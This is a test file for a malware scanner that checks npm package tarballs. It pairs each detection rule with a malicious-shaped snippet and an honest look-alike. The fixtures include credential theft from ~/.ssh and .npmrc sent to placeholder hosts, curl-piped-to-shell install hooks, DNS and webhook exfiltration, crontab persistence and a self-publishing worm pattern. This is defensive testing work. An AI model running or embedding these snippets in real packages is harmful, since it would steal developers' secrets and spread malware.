// The malware scanner, rule by rule: every signal fires on code that does the bad thing and stays quiet on an honest
// counterpart that looks similar; then the bounds (hostile archives, decoding depth), the signature database, the
// diff against the previous version, the worker pool's budget, and the evaluation figures as a floor.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { evaluate, packFiles } from '../fixtures/malware/corpus.ts';
import { MALICIOUS_SCORE, SUSPICIOUS_SCORE, scanTarball, type ScanResult } from '../../src/safety/scan/scanner.ts';
import { loadSignatures, validateSignatureFile } from '../../src/safety/scan/signatures.ts';
import { ScanPool } from '../../src/safety/scan/pool.ts';

const signatures = loadSignatures();
const manifest = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'fixture-pkg', version: '1.0.1', main: 'index.js', ...extra });
const scan = (files: Record<string, string | Buffer>, previous?: Record<string, string | Buffer>): ScanResult =>
  scanTarball(packFiles({ 'package.json': manifest(), ...files }), {
    previous: previous ? packFiles({ 'package.json': manifest({ version: '1.0.0' }), ...previous }) : null,
    signatures,
  });
const rules = (r: ScanResult) => new Set(r.findings.filter((f) => f.weight > 0).map((f) => f.rule));

// [rule, code that must trigger it, honest look-alike that must not]
const RULES: Array<[string, string, string]> = [
  [
    'credential-access',
    `const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));`,
    `const fs = require('fs'), os = require('os'), path = require('path'); fs.readFileSync(path.join(os.homedir(), '.config', 'app.json'));`,
  ],
  [
    'credential-exfiltration',
    `const fs = require('fs'); const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(fs.readFileSync(require('os').homedir() + '/.npmrc'));`,
    `const fs = require('fs'); const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(fs.readFileSync('./data.json'));`,
  ],
  ['env-dump', `console.log(JSON.stringify(process.env));`, `console.log(JSON.stringify(process.env.NODE_ENV));`],
  [
    'cloud-metadata',
    `require('http').get('http://169.254.169.254/latest/meta-data/');`,
    `require('http').get('http://127.0.0.1:8080/health');`,
  ],
  [
    'exfiltration-endpoint',
    `fetch('https://discord.com/api/webhooks/1/x', { method: 'POST' });`,
    `fetch('https://discord.com/channels/1/2');`,
  ],
  ['raw-ip-url', `fetch('http://203.0.113.9:8080/collect');`, `fetch('http://192.168.1.10/collect');`],
  [
    'shell-command',
    `require('child_process').exec('curl -s https://x.example.invalid/a.sh | sh');`,
    `require('child_process').exec('git status --porcelain');`,
  ],
  ['eval-decoded', `eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());`, `eval('1 + 1');`],
  [
    'encoded-payload',
    `const s = '${Buffer.from("require('child_process').execSync('id')").toString('base64')}'; module.exports = s;`,
    `const s = '${Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array(40).fill(0x00)]).toString('base64')}'; module.exports = s;`,
  ],
  [
    'obfuscated-code',
    Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=${i};`).join(''),
    Array.from({ length: 25 }, (_, i) => `var a${i}=${i};`).join(''),
  ],
  [
    'packed-code',
    `eval(function(p,a,c,k,e,d){return p}('0',0,0,''.split('|'),0,{}));`,
    `(function(p,a,c,k,e,d){return p})('0',0,0,[],0,{});`,
  ],
  [
    'encoded-api-name',
    `const names = ['5f636f6d70696c65', '63726561746544656369706865726976'];`,
    `const colours = ['ffaa00ff', '00112233'];`,
  ],
  [
    'host-fingerprint',
    `const os = require('os'); const https = require('https'); https.get('https://x.example.invalid/?' + os.hostname() + os.userInfo().username + os.homedir());`,
    `const os = require('os'); const https = require('https'); https.get('https://x.example.invalid/bin-' + os.platform() + '-' + os.arch());`,
  ],
  [
    'dns-exfiltration',
    `const dns = require('dns'); dns.lookup(\`\${Buffer.from(require('os').hostname()).toString('hex')}.x.example.invalid\`, () => {});`,
    `const dns = require('dns'); dns.lookup('registry.npmjs.org', () => {});`,
  ],
  [
    'raw-socket',
    `const net = require('net'); const s = new net.Socket(); s.connect(4444, '203.0.113.7');`,
    `const net = require('net'); const s = new net.Socket(); s.connect(6379, 'localhost');`,
  ],
  [
    'identity-to-exfiltration-endpoint',
    `const os = require('os'); fetch('https://webhook.site/x?h=' + os.hostname());`,
    `const os = require('os'); fetch('https://api.example.invalid/status?h=' + os.hostname());`,
  ],
  [
    'remote-code-eval',
    `require('https').get('https://x.example.invalid/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });`,
    `const src = ['1', '+', '1'].map(String).join(' '); module.exports = eval(src);`,
  ],
  [
    'npm-publish',
    `require('child_process').execSync('npm publish --access public');`,
    `console.log('run npm publish when you are ready');`,
  ],
  [
    'ci-workflow-write',
    `require('fs').writeFileSync('.github/workflows/ci.yml', 'on: push');`,
    `require('fs').writeFileSync('.github/CODEOWNERS', '* @me');`,
  ],
  ['module-compile', `const m = new module.constructor(); m._compile('', '');`, `const m = new Map();`],
];

describe('scanner rules', () => {
  for (const [rule, bad, good] of RULES) {
    it(`${rule}: found in the malicious shape, not in its honest look-alike`, () => {
      assert.ok(rules(scan({ 'index.js': bad })).has(rule), `${rule} should fire`);
      assert.ok(!rules(scan({ 'index.js': good })).has(rule), `${rule} should not fire on the honest code`);
    });
  }

  it('install scripts: routine native builds weigh nothing, a download piped to a shell is held', () => {
    const routine = scanTarball(packFiles({ 'package.json': manifest({ scripts: { install: 'node-gyp rebuild' } }) }), {
      signatures,
    });
    assert.equal(routine.verdict, 'clean');
    assert.ok(routine.findings.some((f) => f.rule === 'install-script' && f.weight === 0));
    const piped = scanTarball(
      packFiles({
        'package.json': manifest({ scripts: { preinstall: 'curl -s https://x.example.invalid/i.sh | sh' } }),
      }),
      { signatures },
    );
    assert.ok(rules(piped).has('install-script-command'));
    assert.notEqual(piped.verdict, 'clean');
  });

  it('code an install script runs weighs double, and its local requires count as install-time too', () => {
    const code = `const https = require('https'); https.get('https://x.example.invalid/?' + JSON.stringify(process.env));`;
    const atRequire = scan({ 'index.js': `require('./lib/x.js');`, 'lib/x.js': code });
    const atInstall = scanTarball(
      packFiles({
        'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
        'index.js': `require('./lib/x.js');`,
        'lib/x.js': code,
      }),
      { signatures },
    );
    assert.ok(atInstall.score > atRequire.score * 1.5, `${atInstall.score} vs ${atRequire.score}`);
  });

  it('curl or wget sending data is a dangerous command; a plain download is not', () => {
    assert.ok(
      rules(scan({ 'index.js': "require('child_process').exec('curl https://x.example.invalid/?u=$(whoami)');" })).has(
        'shell-command',
      ),
    );
    assert.ok(
      !rules(
        scan({
          'index.js': "require('child_process').exec('curl -fsSL -o bin.tgz https://x.example.invalid/bin.tgz');",
        }),
      ).has('shell-command'),
    );
  });

  it('shell commands: download piped to node, DNS lookups carrying command output, persistence; not their honest cousins', () => {
    for (const bad of [
      'curl -s https://x.example.invalid/i | node',
      'nslookup $(whoami).x.example.invalid',
      '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
    ]) {
      assert.ok(
        rules(scan({ 'index.js': `require('child_process').execSync(${JSON.stringify(bad)});` })).has('shell-command'),
        bad,
      );
    }
    for (const good of [
      'node --version | head -1',
      'nslookup registry.npmjs.org',
      'echo "mounted on the host $(pwd)"',
    ]) {
      assert.ok(
        !rules(scan({ 'index.js': `require('child_process').execSync(${JSON.stringify(good)});` })).has(
          'shell-command',
        ),
        good,
      );
    }
  });

  it('install-time code that reads who or where it runs and uses the network is a beacon; platform checks are not', () => {
    const beacon = scanTarball(
      packFiles({
        'package.json': manifest({
          scripts: {
            postinstall: `node -e "require('https').get('https://x.example.invalid/?h=' + require('os').hostname())"`,
          },
        }),
      }),
      { signatures },
    );
    assert.ok(rules(beacon).has('install-time-beacon'));
    assert.notEqual(beacon.verdict, 'clean');
    const installer = scanTarball(
      packFiles({
        'package.json': manifest({
          scripts: {
            postinstall: `node -e "require('https').get('https://x.example.invalid/bin-' + require('os').platform())"`,
          },
        }),
      }),
      { signatures },
    );
    assert.ok(!rules(installer).has('install-time-beacon'));
  });

  it('reading npm credentials and sending data is flagged even outside install scripts', () => {
    const r = scan({
      'lib/sync.js': `const fs = require('fs'); const https = require('https'); const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); https.request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);`,
    });
    assert.notEqual(r.verdict, 'clean');
  });

  it('self-propagation: npm tokens plus publishing in code that installing runs, not in a release tool', () => {
    const worm = `const t = process.env.NPM_TOKEN; require('child_process').execSync('npm publish', { env: { NPM_CONFIG_TOKEN: t } });`;
    const r = scan({
      'package.json': JSON.stringify({ name: 'p', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
      'setup.js': worm,
    });
    assert.ok(rules(r).has('self-propagation'));
    assert.notEqual(r.verdict, 'clean');
    assert.ok(
      !rules(scan({ 'index.js': `require('child_process').execSync('npm publish');` })).has('self-propagation'),
    );
    // A release CLI does the same when its user asks it to.
    const cli = scan({
      'package.json': JSON.stringify({ name: 'p', version: '1.0.0', bin: { rel: 'cli.js' } }),
      'cli.js': worm + `\nrequire('child_process').execSync('npm whoami');`,
    });
    assert.ok(!rules(cli).has('self-propagation'));
    assert.equal(cli.verdict, 'clean');
  });

  it('self-propagation: publishing with npm tokens that a new version adds', () => {
    const worm = `const t = process.env.NPM_TOKEN; require('child_process').execSync('npm publish', { env: { NPM_CONFIG_TOKEN: t } });`;
    const r = scan({ 'index.js': worm }, { 'index.js': 'module.exports = 1;' });
    assert.ok(r.findings.some((f) => f.rule === 'self-propagation' && /new in/.test(f.evidence)));
    const same = scan({ 'index.js': worm }, { 'index.js': worm });
    assert.ok(!rules(same).has('self-propagation'));
  });

  it('tests and examples weigh half: they do not run on install or require', () => {
    const code = `require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');`;
    const inLib = scan({ 'lib/a.js': code }).findings.find((f) => f.rule === 'credential-access')!;
    const inTest = scan({ 'test/a.js': code }).findings.find((f) => f.rule === 'credential-access')!;
    assert.equal(inTest.weight, inLib.weight / 2);
  });

  it('reports the line of the evidence', () => {
    const r = scan({ 'index.js': `'use strict';\n\nconst x = 1;\nconsole.log(JSON.stringify(process.env));\n` });
    assert.equal(r.findings.find((f) => f.rule === 'env-dump')?.line, 4);
  });

  it('falls back to pattern reading when the parser rejects a file (TypeScript)', () => {
    const r = scan({
      'index.ts': `const x: string = JSON.stringify(process.env); fetch('https://api.telegram.org/bot1/sendMessage', { body: x });`,
    });
    assert.ok(rules(r).has('exfiltration-endpoint'));
    assert.ok(rules(r).has('env-dump'));
  });

  it('an empty or honest package is clean with score 0', () => {
    const r = scan({ 'index.js': `module.exports = (a, b) => a + b;` });
    assert.deepEqual([r.verdict, r.score], ['clean', 0]);
  });
});

describe('scanner verdicts and diff', () => {
  it('thresholds: suspicious at SUSPICIOUS_SCORE, malicious at MALICIOUS_SCORE', () => {
    assert.ok(SUSPICIOUS_SCORE < MALICIOUS_SCORE);
    const r = scan({
      'index.js': `const https = require('https'); https.request({ hostname: 'x.example.invalid' }).end(JSON.stringify(process.env)); fetch('https://webhook.site/x');`,
    });
    assert.equal(
      r.verdict,
      r.score >= MALICIOUS_SCORE ? 'malicious' : r.score >= SUSPICIOUS_SCORE ? 'suspicious' : 'clean',
    );
    assert.notEqual(r.verdict, 'clean');
  });

  it('diff: a new install script, new process and network use, a new obfuscated file in a patch release', () => {
    const before = { 'index.js': `module.exports = 1;` };
    const obf = Array.from({ length: 25 }, (_, i) => `var _0x${(0x3c4d + i).toString(16)}=${i};`).join('');
    const after = scanTarball(
      packFiles({
        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
        'index.js': `module.exports = 1;`,
        'setup.js': `require('child_process').spawn('x'); fetch('https://new.example.invalid/');`,
        'lib/o.js': obf,
      }),
      { previous: packFiles({ 'package.json': manifest({ version: '1.0.0' }), ...before }), signatures },
    );
    for (const rule of [
      'new-install-script',
      'new-process-execution',
      'new-network-access',
      'new-obfuscated-file',
      'new-network-endpoint',
    ])
      assert.ok(rules(after).has(rule), rule);
    assert.match(after.findings.find((f) => f.rule === 'new-install-script')!.evidence, /patch release/);
    // The same package compared with itself has no diff findings.
    const same = { 'index.js': `require('child_process').spawn('x');` };
    assert.ok(![...rules(scan(same, same))].some((r) => r.startsWith('new-')));
  });
});

describe('scanner bounds', () => {
  it('a corrupt or truncated archive is reported, not thrown, and not clean', () => {
    for (const bad of [
      Buffer.from('not a tarball at all'),
      gzipSync(Buffer.from('x'.repeat(600))),
      packFiles({ 'package.json': manifest() }).subarray(0, 40),
    ]) {
      const r = scanTarball(bad, { signatures });
      assert.ok(
        r.findings.some((f) => f.rule === 'unreadable-archive'),
        'reported',
      );
      assert.notEqual(r.verdict, 'clean');
    }
  });

  it('nested encodings are decoded to a bounded depth', () => {
    let payload = `require('child_process').execSync('curl -s https://x.example.invalid | sh')`;
    for (let i = 0; i < 8; i++)
      payload = `eval(Buffer.from('${Buffer.from(payload).toString('base64')}', 'base64').toString())`;
    const started = performance.now();
    const r = scan({ 'index.js': payload });
    assert.ok(performance.now() - started < 5000);
    assert.ok(rules(r).has('eval-decoded'));
  });

  it('code nested deeply enough to overflow the parser is still read, by pattern, without a crash', () => {
    const deep = 'x = ' + '['.repeat(200_000) + ']'.repeat(200_000) + ';';
    const r = scan({ 'index.js': `fetch('https://webhook.site/x', { body: JSON.stringify(process.env) });\n${deep}` });
    assert.ok(rules(r).has('exfiltration-endpoint'));
    assert.ok(rules(r).has('env-dump'));
    const odd = scanTarball(
      packFiles({ 'package.json': '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": 42}}' }),
      { signatures },
    );
    assert.equal(odd.verdict, 'clean');
  });

  it('files over the size limit are hashed, not read', () => {
    const big = `// ${'x'.repeat(3.5 * 1024 * 1024)}\nrequire('child_process').exec('curl -s https://x.example.invalid | sh');`;
    const r = scan({ 'big.js': big });
    assert.ok(r.findings.some((f) => f.rule === 'large-file-not-analyzed'));
    assert.ok(!rules(r).has('shell-command'));
  });
});

describe('signature database', () => {
  it('ships real indicators with their source recorded', () => {
    assert.ok(signatures.hashes.size >= 20);
    assert.ok(signatures.snippets.length >= 50);
    for (const h of signatures.hashes.values()) assert.match(h.sha256, /^[0-9a-f]{64}$/);
  });

  it('a shipped snippet makes a package malicious; operators add hashes and snippets in the same format', async () => {
    const snippet = signatures.snippets.find((s) => s.severity === 'malicious' && s.text.length > 12)!;
    const hit = scan({ 'index.js': `const marker = ${JSON.stringify(snippet.text)};` });
    assert.equal(hit.verdict, 'malicious');
    assert.ok(rules(hit).has('known-malware-snippet'));

    const dir = await mkdtemp(path.join(os.tmpdir(), 'bulwark-sigs-'));
    try {
      const evil = `module.exports = 'operator-flagged payload';\n`;
      const file = path.join(dir, 'local.json');
      await writeFile(
        file,
        JSON.stringify({
          format: 'bulwark-malware-signatures',
          version: 1,
          hashes: [
            { sha256: createHash('sha256').update(evil).digest('hex'), description: 'local incident', source: 'ops' },
          ],
          snippets: [
            {
              id: 'ops:1',
              text: 'exfil.corp.example.invalid',
              severity: 'suspicious',
              description: 'seen in an incident',
              source: 'ops',
            },
          ],
        }),
      );
      const db = loadSignatures([file]);
      const byHash = scanTarball(packFiles({ 'package.json': manifest(), 'lib/x.js': evil }), { signatures: db });
      assert.equal(byHash.verdict, 'malicious');
      assert.equal(
        scanTarball(packFiles({ 'package.json': manifest(), 'lib/x.js': evil }), { signatures }).verdict,
        'clean',
      );
      const bySnippet = scanTarball(
        packFiles({ 'package.json': manifest(), 'a.js': `const h = 'exfil.corp.example.invalid';` }),
        { signatures: db },
      );
      assert.ok(rules(bySnippet).has('known-malware-snippet'));
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('rejects malformed signature files with the reason', () => {
    assert.throws(() => validateSignatureFile({ format: 'other', version: 1 }, 'x.json'), /format/);
    assert.throws(
      () =>
        validateSignatureFile(
          {
            format: 'bulwark-malware-signatures',
            version: 1,
            hashes: [{ sha256: 'ABC', description: 'd', source: 's' }],
          },
          'x.json',
        ),
      /sha256/,
    );
    assert.throws(
      () =>
        validateSignatureFile(
          {
            format: 'bulwark-malware-signatures',
            version: 1,
            snippets: [{ id: 'a', text: 'ab', severity: 'malicious', description: 'd', source: 's' }],
          },
          'x.json',
        ),
      /at least 6/,
    );
  });
});

describe('scan pool', () => {
  it('scans off the main thread, and a scan over budget resolves timeout and the pool recovers', async () => {
    const tgz = packFiles({
      'package.json': manifest(),
      'index.js': `console.log(JSON.stringify(process.env)); fetch('https://webhook.site/x');`,
    });
    const pool = new ScanPool({ size: 1, budgetMs: 30_000 });
    try {
      const r = await pool.scan(tgz);
      assert.notEqual(r.verdict, 'timeout');
      assert.deepEqual(r, scanTarball(tgz, { signatures }));
    } finally {
      await pool.close();
    }
    const tight = new ScanPool({ size: 1, budgetMs: 1 });
    try {
      assert.equal((await tight.scan(tgz)).verdict, 'timeout');
      assert.equal((await tight.scan(tgz)).verdict, 'timeout');
    } finally {
      await tight.close();
    }
    await assert.rejects(tight.scan(tgz), /closed/);
  });

  it('stops idle workers, says when the last has stopped, and starts a fresh one for the next scan', async () => {
    const tgz = packFiles({ 'package.json': manifest(), 'index.js': 'module.exports = 1;' });
    let idle = 0;
    const pool = new ScanPool({ size: 1, budgetMs: 30_000, idleMs: 50, onIdle: () => idle++ });
    try {
      assert.equal((await pool.scan(tgz)).verdict, 'clean');
      assert.equal(pool.workers, 1);
      assert.equal(idle, 0);
      await new Promise((res) => setTimeout(res, 300));
      assert.equal(pool.workers, 0, 'an idle registry keeps no scanner in memory');
      assert.equal(idle, 1, 'the pool says when publishing has paused, once');
      assert.equal((await pool.scan(tgz)).verdict, 'clean');
      assert.equal(pool.workers, 1);
    } finally {
      await pool.close();
    }
  });

  it('a worker that dies resolves timeout (held for review) instead of failing the publish', async () => {
    // A heap that holds the scanner but not this tarball's analysis: the worker runs out of memory, as on a bomb.
    const starved = new ScanPool({ size: 1, budgetMs: 60_000, maxMemoryMb: 16 });
    const strings = Array.from({ length: 90_000 }, (_, i) => `'r${i}-${'x'.repeat(20)}'`).join(',\n');
    try {
      const r = await starved.scan(
        packFiles({ 'package.json': manifest(), 'index.js': `require('http'); module.exports = [${strings}];` }),
      );
      assert.deepEqual(r.verdict === 'timeout' && { failed: r.failed, worker: /worker/.test(r.reason) }, {
        failed: true,
        worker: true,
      });
    } finally {
      await starved.close();
    }
  });

  it('a worker that cannot start (its signature file is gone) holds every scan and says why', async () => {
    const broken = new ScanPool({
      size: 1,
      budgetMs: 60_000,
      signatureFiles: [path.join(os.tmpdir(), `bulwark-no-such-signatures-${process.pid}.json`)],
    });
    try {
      const r = await broken.scan(packFiles({ 'package.json': manifest(), 'index.js': 'module.exports = 1;' }));
      assert.equal(r.verdict, 'timeout');
      assert.ok(r.verdict === 'timeout' && r.failed, 'a failure, not a scan over its budget');
      assert.match(r.verdict === 'timeout' ? r.reason : '', /bulwark-no-such-signatures.*ENOENT/);
    } finally {
      await broken.close();
    }
  });
});

describe('evaluation set (committed part)', () => {
  // Floors measured when the scanner was built (docs/malware-scanning.md); a change may raise them, never lower them.
  const FLOORS = {
    tuning: { recall: 1, fpOrdinary: 0, fpInstall: 0 },
    heldout: { recall: 1, fpOrdinary: 0, fpInstall: 0 },
  };
  for (const split of ['tuning', 'heldout'] as const) {
    it(`${split}: recall and false-positive rates do not regress`, () => {
      const f = evaluate(split, (tgz, previous) => scanTarball(tgz, { previous, signatures }));
      assert.ok(f.samples >= 10 && f.ordinary >= 40 && f.install >= 15, 'the set is not empty');
      assert.ok(f.recall >= FLOORS[split].recall, `missed: ${f.missed.join(', ')}`);
      assert.ok(
        f.fpOrdinary <= FLOORS[split].fpOrdinary && f.fpInstall <= FLOORS[split].fpInstall,
        `false positives: ${f.falsePositives.join(', ')}`,
      );
    });
  }
});
